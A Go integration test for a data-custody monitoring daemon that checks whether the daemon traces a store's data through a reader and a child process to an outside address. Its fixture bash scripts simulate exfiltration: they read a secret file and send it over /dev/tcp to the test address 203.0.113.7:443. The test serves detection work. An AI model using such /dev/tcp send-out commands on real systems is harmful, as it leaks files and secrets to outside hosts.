package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"cityward/agent/report"
	"cityward/configs"
)

// witness is a daemon that saw a store's data leave the city, by a program that had
// it from another.
type witness struct {
	*daemonProcess
	state, config, policy, store string
	reader, sender               string // who opened the store, and who sent
}

func testify(t *testing.T) *witness {
	t.Helper()
	needRoot(t)
	dir := t.TempDir()
	w := &witness{state: filepath.Join(dir, "state"), store: filepath.Join(dir, "store"), config: filepath.Join(dir, "cityward.toml"), reader: shellNamed(t, "reader"), sender: shellNamed(t, "sender")}
	t.Setenv("STATE_DIRECTORY", w.state)
	for _, made := range []string{w.state, w.store} {
		if err := os.Mkdir(made, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	file := filepath.Join(w.store, "citizens")
	writeFile(t, file, "secret\n")
	w.policy = fmt.Sprintf("[city]\nnetworks = [\"10.77.0.0/16\"]\n\n[listen]\nmetrics = \"127.0.0.1:0\"\nadmin = %q\n\n[round]\ninterval = \"1s\"\n\n"+
		"[capture]\npins = \"\"\ntier = \"poll\"\n\n[[data_store]]\nid = \"registry\"\nclass = \"citizen\"\npaths = [%q]\n",
		filepath.Join(dir, "admin.sock"), w.store)
	writeFile(t, w.config, w.policy)
	inside, outside := border(t)
	listener := listenIn(t, outside, outsideAddress+":443")
	w.daemonProcess = startDaemon(t, os.Args[0], "0", "run", "--config", w.config)
	w.scrapeUntil(t, `cityward_rounds_total [1-9]`)
	steps := make(map[string]string)
	for _, name := range []string{"begin", "connect", "send"} {
		steps[name] = filepath.Join(dir, name)
		if err := unix.Mkfifo(steps[name], 0o600); err != nil {
			t.Fatal(err)
		}
	}
	talk := `read -r line; read -r _ <"$1"; exec 4<>"/dev/tcp/$0/443"; read -r _ <"$2"; echo "$line" >&4; read -r _ <&4`
	script := `exec 3<"$1"; read -r line <&3; read -r _ <"$4"; "$7" -c "$2" "$3" "$5" "$6" 3<&- <<<"$line"; read -r _ <"$4"`
	startProgram(t, "ip", "netns", "exec", inside, w.reader, "-c", script, "read", file, talk, outsideAddress, steps["begin"], steps["connect"], steps["send"], w.sender)
	w.step(t, steps["begin"], "direct")
	w.step(t, steps["connect"], "descendant")
	conn, err := listener.Accept()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	w.step(t, steps["send"], "203.0.113.7,443,outside,,0")
	if _, err := conn.Read(make([]byte, 7)); err != nil {
		t.Fatal(err)
	}
	w.scrapeUntil(t, `cityward_check_failing\{check="NET-001",severity="critical"\} 1`)
	eventually(t, "the ledger has it", func() bool {
		out, _ := w.says(t, exitDone, "custody", "--since", "1h", "--format", "csv")
		return strings.Contains(out, ",443,outside,,7,")
	})
	return w
}

// step lets the programs go on when the daemon has seen how far they are.
func (w *witness) step(t *testing.T, fifo, seen string) {
	t.Helper()
	out := ""
	defer func() {
		if t.Failed() {
			t.Log(out)
		}
	}()
	eventually(t, "the daemon sees "+seen, func() bool {
		out, _ = w.says(t, exitDone, "custody", "--format", "csv")
		return strings.Contains(out, ","+seen+",")
	})
	time.Sleep(2 * time.Second) // the start of a program is known to the second
	writeFile(t, fifo, "\n")
}

// says runs a command with the configuration of the daemon.
func (w *witness) says(t *testing.T, status int, args ...string) (stdout, stderr string) {
	t.Helper()
	return said(t, status, append([]string{"--config", w.config}, args...)...)
}

// What the daemon shows, the ledger shows when it has gone.
func TestCustodyAndFindings(t *testing.T) {
	w := testify(t)
	w.showsCustody(t, "", "now")
	w.showsCustody(t, "", "--since", "1h")
	out, said := w.says(t, exitDone, "findings")
	w.showsTheWay(t, out)
	if said != "" || !strings.Contains(out, "sent bytes: 7") {
		t.Errorf("with a daemon, findings says %q", said)
	}
	if out, _ := w.says(t, exitDone, "findings", "--format", "csv"); !strings.Contains(out, "registry → "+w.reader+" → "+w.sender+" → 203.0.113.7:443") {
		t.Errorf("as csv:\n%s", out)
	}
	w.resolve(t)
	w.terminate(t)

	w.showsCustody(t, "no daemon answers")
	if _, err := os.Stat(filepath.Join(w.state, "ledger.db")); err != nil {
		t.Fatal(err)
	}
	out, said = w.says(t, exitDone, "findings")
	w.showsTheWay(t, out)
	if !strings.Contains(said, "no daemon answers: this is of the ledger in "+w.state) || strings.Count(said, "\n") != 1 {
		t.Errorf("without a daemon, findings says %q", said)
	}
	if out, said = w.says(t, exitDone, "flows", "--zone", "outside"); !strings.Contains(out, "203.0.113.7:443") || !strings.Contains(said, "no daemon answers") {
		t.Errorf("without a daemon, flows says %q and shows\n%s", said, out)
	}
	root := t.TempDir() // a disk of that machine, looked at from another
	if err := os.CopyFS(filepath.Join(root, "var/lib/cityward"), os.DirFS(w.state)); err != nil {
		t.Fatal(err)
	}
	if out, said = w.says(t, exitDone, "--root", root, "findings"); !strings.Contains(said, root) {
		t.Errorf("of another machine's disk, findings says %q", said)
	}
	w.showsTheWay(t, out)
	w.refuses(t)
	w.learns(t)
}

// showsCustody looks at all formats.
func (w *witness) showsCustody(t *testing.T, note string, since ...string) {
	t.Helper()
	past := since == nil || since[0] != "now"
	if !past {
		since = nil
	}
	out, said := w.says(t, exitDone, append([]string{"custody", "registry", "--format", "json"}, since...)...)
	holdings, err := report.ReadCustody([]byte(out))
	if err != nil {
		t.Fatal(err)
	}
	if (note == "") != (said == "") || !strings.Contains(said, note) {
		t.Errorf("custody says %q, want %q", said, note)
	}
	var direct, descendant *report.Holding
	for i := range holdings {
		switch h := &holdings[i]; {
		case h.How == "direct" && *h.Program.Executable == w.reader:
			direct = h
		case h.How != "direct" && *h.Program.Executable == w.sender:
			descendant = h
		}
	}
	if direct == nil || descendant == nil || descendant.From == nil || *descendant.From.Executable != w.reader || direct.Evidence == nil || len(descendant.Destinations) == 0 {
		t.Fatalf("custody %v shows\n%s", since, out)
	}
	d := &descendant.Destinations[0]
	if *d.Address != outsideAddress || *d.Port != 443 || d.Zone != "outside" || d.Transfer != nil || d.Sent != 7 || past != (direct.Program.PID == nil) {
		t.Errorf("custody %v shows\n%s", since, out)
	}
	out, _ = w.says(t, exitDone, append([]string{"custody"}, since...)...)
	if !strings.Contains(out, "→ 203.0.113.7:443 (outside)") || !strings.HasPrefix(out, "STORE") {
		t.Errorf("custody %v shows\n%s", since, out)
	}
	out, _ = w.says(t, exitDone, append([]string{"custody", "--format", "csv"}, since...)...)
	if records, err := csv.NewReader(strings.NewReader(out)).ReadAll(); err != nil || len(records) < 3 {
		t.Errorf("%v: %s", err, out)
	}
}

func (w *witness) showsTheWay(t *testing.T, out string) {
	t.Helper()
	for _, want := range []string{
		"registry → " + w.reader + " → " + w.sender + " → 203.0.113.7:443", "NET-001  critical, fail, since 20", "  → ", w.reader + ", user root: direct, ",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("findings lacks %q:\n%s", want, out)
		}
	}
}

// resolve opens the store to all and shuts it again.
func (w *witness) resolve(t *testing.T) {
	t.Helper()
	const failing = `cityward_check_failing\{check="ACC-002",severity="critical"\} `
	for _, step := range []struct {
		mode  os.FileMode
		value string
	}{{0o777, "1"}, {0o700, "0"}} {
		access(t, w.store, step.mode)
		w.scrapeUntil(t, failing+step.value)
	}
	eventually(t, "the ledger has it", func() bool {
		out, _ := w.says(t, exitDone, "findings", "--all")
		return strings.Contains(out, "ACC-002  critical, fail, ") && strings.Contains(out, ", resolved  No file of")
	})
	out, _ := w.says(t, exitDone, "findings", "--all", "--format", "json")
	found, err := report.ReadFindings([]byte(out))
	if err != nil || len(found) == 0 || found[len(found)-1].Resolved == nil {
		t.Errorf("%v: findings --all shows\n%s", err, out)
	}
	if out, _ := w.says(t, exitDone, "findings"); strings.Contains(out, "resolved") {
		t.Errorf("findings shows what was resolved:\n%s", out)
	}
}

func (w *witness) refuses(t *testing.T) {
	t.Helper()
	for _, args := range [][]string{
		{"custody", "--since", "soon"},
		{"policy", "learn", "--since", "soon"},
		{"policy", "test", w.config, "--since", "soon"},
		{"policy", "test", filepath.Join(w.state, "none.toml")},
		{"--root", w.state, "custody"},
	} {
		if out, text := w.says(t, exitUsage, args...); strings.Count(text, "\n") != 1 || out != "" {
			t.Errorf("%v: %q, want one line", args, text)
		}
	}
	if _, text := w.says(t, exitUsage, "custody", "archive", "--since", "1h"); !strings.Contains(text, `"archive" is no declared data store, want one of registry`) {
		t.Errorf("of an unknown store: %q", text)
	}
}

// learns drafts the transfer, which is no policy before it is filled in, and then
// excuses what it covers and nothing else.
func (w *witness) learns(t *testing.T) {
	t.Helper()
	out, _ := w.says(t, exitDone, "policy", "learn")
	for _, want := range []string{"[[transfer]]", `networks = ["203.0.113.0/24"]`, "ports = [443]", `programs = ["` + w.sender + `"]`, `# stores = ["registry"]`, "7 bytes sent"} {
		if !strings.Contains(out, want) {
			t.Errorf("the draft lacks %s:\n%s", want, out)
		}
	}
	draft := filepath.Join(w.state, "draft.toml")
	if w.says(t, exitDone, "policy", "learn", "--output", draft); !strings.Contains(mustRead(t, draft), "[[transfer]]") {
		t.Error("--output is empty")
	}
	_, text := w.says(t, exitUsage, "config", "check", draft)
	for _, key := range []string{"legal_basis", "purpose", "owner", "approved_by", "expires"} {
		if !strings.Contains(text, key) {
			t.Errorf("config check of a draft does not demand %s: %s", key, text)
		}
	}
	entry := strings.SplitN(out, "\n[[transfer]]\n", 3)[1] // what went with a store's data is first
	filled := strings.NewReplacer(
		`# country = ""`, `country = "BE"`, `# stores`, `stores`, `# purpose = ""`, `purpose = "x"`, `# legal_basis = ""`, `legal_basis = "x"`,
		`# owner = ""`, `owner = "x"`, `# approved_by = ""`, `approved_by = "y"`, `# expires = YYYY-MM-DD`, "expires = "+time.Now().AddDate(0, 6, 0).Format(time.DateOnly),
	).Replace("\n[[transfer]]\n" + entry)
	writeFile(t, draft, w.policy+filled)
	if _, err := configs.Load(draft); err != nil {
		t.Fatalf("%v\n%s", err, filled)
	}
	w.tries(t, draft)
}

func (w *witness) tries(t *testing.T, draft string) {
	t.Helper()
	var got trial
	out, _ := w.says(t, exitDone, "policy", "test", draft, "--format", "json")
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatal(err)
	}
	gone := make(map[string]bool)
	for _, c := range got.Changes {
		if c.After != nil && c.After.Result != "unknown" { // of connections of others on this machine, without a program
			t.Errorf("the draft changes %s %s: %+v", c.Check, c.subject(), c.After)
		}
		gone[c.Check+" "+c.subject()] = c.Change == "vanishes"
	}
	if !gone["NET-001 registry → 203.0.113.7:443"] || !gone["NET-002 "+w.sender+" → 203.0.113.0/24 port 443"] || len(got.NotReplayed) < 3 {
		t.Errorf("policy test shows\n%s", out)
	}
	if out, _ = w.says(t, exitDone, "policy", "test", w.config); !strings.Contains(out, "no finding appears, vanishes or changes") || !strings.Contains(out, "CANNOT BE REPLAYED") {
		t.Errorf("of the policy in force:\n%s", out)
	}
	w.config, draft = draft, w.config
	if out, _ = w.says(t, exitDone, "policy", "test", draft); strings.Count(out, "\nappears ") < 2 || !strings.Contains(out, "registry → 203.0.113.7:443: sent beyond the city") {
		t.Errorf("the other way round:\n%s", out)
	}
	if out, _ = w.says(t, exitDone, "policy", "learn"); strings.Contains(out, w.sender) || !strings.Contains(out, "under transfers in force") {
		t.Errorf("what is approved is drafted again:\n%s", out)
	}
	if out, _ = w.says(t, exitDone, "custody", "--since", "1h"); !strings.Contains(out, "under sender-203-0-113-0-24-443") {
		t.Errorf("custody does not name the transfer:\n%s", out)
	}
}

func mustRead(t *testing.T, file string) string {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
